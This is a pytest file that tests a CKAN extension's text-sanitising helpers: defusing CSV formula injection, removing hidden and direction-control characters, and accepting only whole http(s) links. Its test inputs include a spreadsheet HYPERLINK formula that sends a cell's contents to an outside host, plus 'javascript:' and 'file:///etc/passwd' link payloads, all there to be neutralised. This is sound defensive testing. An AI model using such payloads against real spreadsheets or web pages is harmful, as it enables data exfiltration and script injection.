"""What is taken out of a text, and what a spreadsheet program could obey."""

from __future__ import annotations

import pytest

from ckanext.ppidbontang.documents.hygiene import (
    defused,
    is_formula,
    is_web_address,
    legal,
    plain,
)

FORMULAS = [
    '=HYPERLINK("http://x.id/?"&A1;"Klik")',
    "+62 548 1234",
    "-1+1",
    "@SUM(1)",
    "  =1",
    "\n=1",
    "\u00a0=1",
    "\u00ad=1",
    '"=1"',
    "＝1",
    "＋1",
    "－1",
    "＠1",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_seen_past_blanks_and_in_full_width_forms(text):
    """It is marked in CSV by an apostrophe before all of it."""
    assert is_formula(text)
    assert defused(text).startswith("'")
    assert defused(text).replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize("text", ["", "1-1", "a=b", "(=1)", "Laporan – 2025", "–"])
def test_other_text_is_left_alone(text):
    """A sign within a text is no formula."""
    assert not is_formula(text)
    assert defused(text) == text


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("a;=1", "a;'=1"),
        ("a;  =1", "a;'  =1"),
        ('a;"=1', "a;'\"=1"),
        ("a\n-1", "a\n'-1"),
        ("a,=1", "a,=1"),
        ("'=1", "''=1"),
    ],
)
def test_a_formula_is_seen_where_indonesian_excel_begins_a_cell(text, written):
    """That is after a semicolon and after the end of a line; a comma means nothing to it."""
    assert defused(text) == written


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("Kota\u202egnatnoB\u202c", "KotagnatnoB"),
        ("\u2066a\u2069\u200f\u061c", "a"),
        ("a\u200bb\ufeffc\u2060d", "abcd"),
        ("a\x00b\x1bc\x7fd\x9be", "abcde"),
        ("a\ud800b\udfffc", "abc"),
        ("a\ufffeb\uffffc\U000e0041", "abc"),
        ("a\r\nb\rc\u2028d\x85e\x0bf", "a\nb\nc\nd\ne\nf"),
        ("a\tb", "a b"),
        ("naïve – “Bontang” 中文 😀", "naïve – “Bontang” 中文 😀"),
        ("kerja\u00adsama \u0646\u200c\u0647", "kerja\u00adsama \u0646\u200c\u0647"),
    ],
)
def test_what_cannot_be_seen_is_taken_out(text, written):
    """Controls, marks that turn the reading and hidden characters go; words stay as they are."""
    assert plain(text) == written


def test_what_no_file_can_carry_is_taken_out():
    """Marks of direction are part of the text where it is data."""
    assert legal("a\x00\x1b\ud800\ufffe\tb\n\u202ec") == "a\tb\n\u202ec"


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("https://data.bontangkota.go.id/dataset/a?b=c#d", True),
        ("HTTP://x.id", True),
        ("https://", False),
        ("javascript:alert(1)", False),
        ("file:///etc/passwd", False),
        ("internal:Daftar!A1", False),
        (" https://x.id", False),
        ("https://x.id/a b", False),
        ('https://x.id/"><a', False),
        ("", False),
    ],
)
def test_only_whole_addresses_of_the_web_become_links(text, expected):
    """Other schemes reach into the reader's machine."""
    assert is_web_address(text) is expected
